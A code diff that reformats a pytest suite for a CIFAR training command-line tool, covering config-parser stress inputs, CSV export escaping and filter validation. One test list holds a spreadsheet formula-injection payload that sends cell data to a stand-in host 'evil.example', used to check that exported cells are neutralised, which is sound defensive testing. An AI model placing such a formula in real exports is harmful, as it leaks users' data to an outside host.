@@ -5,9 +5,9 @@ rather than ignored, and errors that quote megabytes. Real processes, exit codes
 from __future__ import annotations
 
 import csv
-import os
 import io
 import json
+import os
 import re
 import shutil
 from pathlib import Path
@@ -49,11 +49,16 @@ def settings_file(tmp_path: Path, text: str) -> Path:
 DEEP = 5000
 
 
-@pytest.mark.parametrize("text", [
-    pytest.param("x = " + "[" * DEEP + "]" * DEEP, id="arrays-5000-deep"),
-    pytest.param("[[run]]\nlam = 0\neta = 0.1\nx = " + "{a = " * DEEP + "1" + "}" * DEEP, id="inline-tables-5000-deep"),
-    pytest.param("[[run]]\nlam = 0\neta = 0.1\nseed = " + "7" * 5000, id="seed-of-5000-digits"),
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("x = " + "[" * DEEP + "]" * DEEP, id="arrays-5000-deep"),
+        pytest.param(
+            "[[run]]\nlam = 0\neta = 0.1\nx = " + "{a = " * DEEP + "1" + "}" * DEEP, id="inline-tables-5000-deep"
+        ),
+        pytest.param("[[run]]\nlam = 0\neta = 0.1\nseed = " + "7" * 5000, id="seed-of-5000-digits"),
+    ],
+)
 def test_a_settings_file_the_parser_cannot_take_is_one_line_naming_it(tmp_path, text):
     path = settings_file(tmp_path, text)
     done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
@@ -63,16 +68,18 @@ def test_a_settings_file_the_parser_cannot_take_is_one_line_naming_it(tmp_path, 
 
 def test_a_value_nested_deep_but_readable_is_refused_in_a_short_line(tmp_path):
     path = settings_file(tmp_path, "[[run]]\neta = 0.1\nlam = " + "[" * 300 + "]" * 300)
-    line = one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2,
-                     str(path), "run 1", "lam")
+    line = one_error(
+        cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "run 1", "lam"
+    )
     assert "[[[[...]]]]" in line and len(line) < 300
 
 
 # -- runs --csv and spreadsheets ----------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3",
-                                     "@SUM(A1:A9)", "\t=1"])
+@pytest.mark.parametrize(
+    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
+)
 def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, two_runs, formula):
     from cifarcli import runs, stages, views
 
@@ -133,12 +140,15 @@ def test_the_train_result_shows_its_numbers_at_any_terminal_width(tmp_path, two_
 # -- values refused, not ignored (item 10) --------------------------------------------------------------
 
 
-@pytest.mark.parametrize("args, flag", [
-    (("--split", "bogus"), "--split"),
-    (("--where", "split=bogus"), "--where"),
-    (("--where", "dtype=float16"), "--where"),
-    (("--where", "loss=hinge"), "--where"),
-])
+@pytest.mark.parametrize(
+    "args, flag",
+    [
+        (("--split", "bogus"), "--split"),
+        (("--where", "split=bogus"), "--where"),
+        (("--where", "dtype=float16"), "--where"),
+        (("--where", "loss=hinge"), "--where"),
+    ],
+)
 def test_runs_filtered_on_a_value_no_run_can_have_is_exit_2(tmp_path, two_runs, args, flag):
     in_workspace(tmp_path, two_runs)
     line = one_error(cli_process(tmp_path, "runs", *args, "--cache-dir", "cache"), 2, flag, "unknown")
@@ -154,7 +164,9 @@ def test_runs_filtered_on_a_valid_split_still_lists_them(tmp_path, two_runs):
 def test_where_run_id_takes_a_prefix_as_run_does(tmp_path, two_runs):
     first, second = in_workspace(tmp_path, two_runs)
     for op, want in (("=", [first]), ("!=", [second])):
-        done = cli_process(tmp_path, "runs", "--where", f"run_id{op}{first[:6].upper()}", "--json", "--cache-dir", "cache")
+        done = cli_process(
+            tmp_path, "runs", "--where", f"run_id{op}{first[:6].upper()}", "--json", "--cache-dir", "cache"
+        )
         assert done.returncode == 0, done.stderr
         assert [r["run_id"] for r in json.loads(done.stdout)["runs"]] == want
 
@@ -179,8 +191,9 @@ def test_a_seed_in_the_ensemble_table_is_refused_not_dropped(tmp_path, two_runs)
     in_workspace(tmp_path, two_runs)
     path = settings_file(tmp_path, "[ensemble]\nseeds = [1, 2]\nseed = 5\nlam = 0\neta = 0.01\n")
     one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "seed")
-    assert sorted(p.name for p in (tmp_path / "cache" / "train").iterdir() if not p.name.startswith(".")) \
-        == sorted(two_runs[1])
+    assert sorted(p.name for p in (tmp_path / "cache" / "train").iterdir() if not p.name.startswith(".")) == sorted(
+        two_runs[1]
+    )
 
 
 def test_seeds_are_capped_before_any_training(tmp_path, two_runs):
@@ -247,8 +260,21 @@ def test_a_gradcheck_where_every_parameter_is_a_kink_claims_no_error(tmp_path, t
 
 def test_gradcheck_with_some_kinks_still_measures_the_others(tmp_path, two_runs):
     in_workspace(tmp_path, two_runs)
-    done = cli_process(tmp_path, "gradcheck", "--loss", "svm", "--n-samples", "20", "--n-dims", "20", "--json",
-                       "--tol", "1e-4", "--cache-dir", "cache")
+    done = cli_process(
+        tmp_path,
+        "gradcheck",
+        "--loss",
+        "svm",
+        "--n-samples",
+        "20",
+        "--n-dims",
+        "20",
+        "--json",
+        "--tol",
+        "1e-4",
+        "--cache-dir",
+        "cache",
+    )
     document = json.loads(done.stdout)
     assert done.returncode == 0 and document["passed"] is True and document["n_checked"] > 0
     assert document["verdict"].startswith("PASS")
@@ -265,8 +291,10 @@ def unlearnable_archive(path: Path) -> Path:
     template = rng.integers(50, 250, size=3072)
 
     def batch(n):
-        return (np.round(rng.uniform(0.2, 1.0, size=(n, 1)) * template).astype(np.uint8),
-                rng.permutation(np.arange(n) % 10).astype(np.uint8))
+        return (
+            np.round(rng.uniform(0.2, 1.0, size=(n, 1)) * template).astype(np.uint8),
+            rng.permutation(np.arange(n) % 10).astype(np.uint8),
+        )
 
     members = {f"{name}.bin": tinycifar._binary_bytes(*batch(200)) for name in [*tinycifar.TRAIN_FILES, "test_batch"]}
     members["batches.meta.txt"] = tinycifar.binary_members()["batches.meta.txt"]
